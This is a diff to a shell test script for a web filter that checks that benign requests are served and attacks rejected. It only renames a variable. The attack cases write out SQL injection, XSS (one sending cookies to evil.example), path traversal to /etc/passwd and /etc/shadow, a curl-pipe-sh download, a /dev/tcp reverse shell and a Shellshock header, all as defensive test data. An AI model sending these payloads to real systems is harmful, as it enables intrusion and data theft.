@@ -45,7 +45,7 @@ try() {
 }
 
 served='200|201|404'
-refused='400|403'
+rejected='400|403'
 json='Content-Type: application/json'
 head -c 262144 /dev/urandom >"$work/photo.jpg"
 printf '%s' '{"author":"Zoë","text":"' >"$work/long.json"
@@ -74,33 +74,33 @@ try "$served" 'upload of 256 kB' "$base/upload" --header 'Content-Type: image/jp
 try 101 'WebSocket handshake' "$base/echo" --http1.1 --header 'Connection: Upgrade' --header 'Upgrade: websocket' \
     --header 'Sec-WebSocket-Version: 13' --header 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' --max-time 1
 
-echo "attacks: all must be refused"
-try "$refused" 'SQL: always true' "$base/search?q=1'+or+'1'='1"
-try "$refused" 'SQL: union' "$base/search?q=1%20UNION%20SELECT%20user,password%20FROM%20users--"
-try "$refused" 'SQL: comments for blanks' "$base/search?q=1'/**/union/**/all/**/select/**/null,version()%23"
-try "$refused" 'SQL: encoded twice' "$base/search?q=1%2527%2520or%25201%253D1--%2520"
-try "$refused" 'SQL: waits' "$base/search?q=1);+waitfor+delay+'0:0:5'--"
-try "$refused" 'SQL in a cookie' "$base/" --cookie "session=x' and 1=1 union select 1,2,3-- "
-try "$refused" 'SQL in JSON' "$base/comments" --header "$json" --data '{"author":"x","text":"1\u0027; drop table comments; --"}'
-try "$refused" 'SQL in the login form' "$base/login" --data-urlencode "user=admin'--" --data-urlencode "password=' or 1=1#"
-try "$refused" 'SQL in the user agent' "$base/" --user-agent "' or sleep(5)='"
-try "$refused" 'script element' "$base/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
-try "$refused" 'script in an event handler' "$base/search?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"
-try "$refused" 'script in an SVG' "$base/search?q=%3Csvg/onload%3Dfetch('//evil.example/'%2Bdocument.cookie)%3E"
-try "$refused" 'script in a URL' "$base/search?q=javascript:alert(document.domain)"
-try "$refused" 'script in JSON, escaped' "$base/comments" --header "$json" --data '{"author":"x","text":"\u003cscript\u003ealert(1)\u003c/script\u003e"}'
-try "$refused" 'script after 300 kB of padding' "$base/comments" --header "$json" \
+echo "attacks: all must be rejected"
+try "$rejected" 'SQL: always true' "$base/search?q=1'+or+'1'='1"
+try "$rejected" 'SQL: union' "$base/search?q=1%20UNION%20SELECT%20user,password%20FROM%20users--"
+try "$rejected" 'SQL: comments for blanks' "$base/search?q=1'/**/union/**/all/**/select/**/null,version()%23"
+try "$rejected" 'SQL: encoded twice' "$base/search?q=1%2527%2520or%25201%253D1--%2520"
+try "$rejected" 'SQL: waits' "$base/search?q=1);+waitfor+delay+'0:0:5'--"
+try "$rejected" 'SQL in a cookie' "$base/" --cookie "session=x' and 1=1 union select 1,2,3-- "
+try "$rejected" 'SQL in JSON' "$base/comments" --header "$json" --data '{"author":"x","text":"1\u0027; drop table comments; --"}'
+try "$rejected" 'SQL in the login form' "$base/login" --data-urlencode "user=admin'--" --data-urlencode "password=' or 1=1#"
+try "$rejected" 'SQL in the user agent' "$base/" --user-agent "' or sleep(5)='"
+try "$rejected" 'script element' "$base/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
+try "$rejected" 'script in an event handler' "$base/search?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"
+try "$rejected" 'script in an SVG' "$base/search?q=%3Csvg/onload%3Dfetch('//evil.example/'%2Bdocument.cookie)%3E"
+try "$rejected" 'script in a URL' "$base/search?q=javascript:alert(document.domain)"
+try "$rejected" 'script in JSON, escaped' "$base/comments" --header "$json" --data '{"author":"x","text":"\u003cscript\u003ealert(1)\u003c/script\u003e"}'
+try "$rejected" 'script after 300 kB of padding' "$base/comments" --header "$json" \
     --data-binary "@"<(head -c 300000 "$work/long.json"; printf '%s' '<script>alert(1)</script>"}')
-try "$refused" 'path traversal' "$base/files?name=../../../../etc/passwd"
-try "$refused" 'path traversal, encoded' "$base/files?name=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"
-try "$refused" 'path traversal, overlong UTF-8' "$base/files?name=..%c0%af..%c0%af..%c0%afetc/passwd"
-try "$refused" 'path traversal, Windows' "$base/files?name=..%5c..%5c..%5cwindows%5cwin.ini"
-try "$refused" 'path traversal in the path' "$base/static/..%2f..%2f..%2fetc/passwd"
-try "$refused" 'shell: command after a separator' "$base/files?name=x;cat+/etc/passwd"
-try "$refused" 'shell: substitution' "$base/files?name=\$(curl+http://evil.example/x.sh|sh)"
-try "$refused" 'shell: reverse shell' "$base/search?q=%3B+bash+-i+%3E%26+/dev/tcp/192.0.2.1/4444+0%3E%261"
-try "$refused" 'shell: blanks hidden' "$base/files?name=a;cat\${IFS}/etc/passwd"
-try "$refused" 'shell in a header' "$base/" --header 'X-Api-Version: () { :;}; /bin/bash -c "id"'
+try "$rejected" 'path traversal' "$base/files?name=../../../../etc/passwd"
+try "$rejected" 'path traversal, encoded' "$base/files?name=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"
+try "$rejected" 'path traversal, overlong UTF-8' "$base/files?name=..%c0%af..%c0%af..%c0%afetc/passwd"
+try "$rejected" 'path traversal, Windows' "$base/files?name=..%5c..%5c..%5cwindows%5cwin.ini"
+try "$rejected" 'path traversal in the path' "$base/static/..%2f..%2f..%2fetc/passwd"
+try "$rejected" 'shell: command after a separator' "$base/files?name=x;cat+/etc/passwd"
+try "$rejected" 'shell: substitution' "$base/files?name=\$(curl+http://evil.example/x.sh|sh)"
+try "$rejected" 'shell: reverse shell' "$base/search?q=%3B+bash+-i+%3E%26+/dev/tcp/192.0.2.1/4444+0%3E%261"
+try "$rejected" 'shell: blanks hidden' "$base/files?name=a;cat\${IFS}/etc/passwd"
+try "$rejected" 'shell in a header' "$base/" --header 'X-Api-Version: () { :;}; /bin/bash -c "id"'
 try 403 'the admin page from outside' "$base/admin"
 try 403 'the admin page with a forged address' "$base/admin" --header 'X-Forwarded-For: 10.20.0.1'
 try 413 'a body over the limit' "$base/comments" --header "$json" \
@@ -119,4 +119,4 @@ if [ "$wrong" -gt 0 ]; then
     echo "$wrong requests were answered wrongly"
     exit 1
 fi
-echo "every benign request was served and every attack refused"
+echo "every benign request was served and every attack rejected"
